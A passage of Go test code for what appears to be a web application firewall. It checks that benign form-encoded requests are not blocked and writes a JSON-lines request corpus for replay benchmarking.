			toolCapture{"fp", false, "POST", "/", [][2]string{{"Content-Type", "application/x-www-form-urlencoded"}}, "p=" + q}.corpusReq(2*i+1))
	}
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	s := scoreCorpus(t, w, reqs)
	for _, fp := range s.falsePos {
		f := strings.Fields(fp)
		var i int
		fmt.Sscanf(f[1], "fp-%d", &i)
		t.Errorf("benign blocked: %q (%s)", falsePositiveShapes[i/2], strings.Join(f[2:], " "))
	}
	if s.refused > 0 {
		t.Errorf("%d requests refused by the HTTP server", s.refused)
	}
}

// writeCorpus writes reqs to path as a JSON-lines corpus (the format
// bench/waf replays), or nothing when path is "".
func writeCorpus(t *testing.T, path string, reqs []corpusReq) {
	t.Helper()
	if path == "" {
		return
	}
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	enc := json.NewEncoder(f)
	for _, r := range reqs {
		if err := enc.Encode(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
}
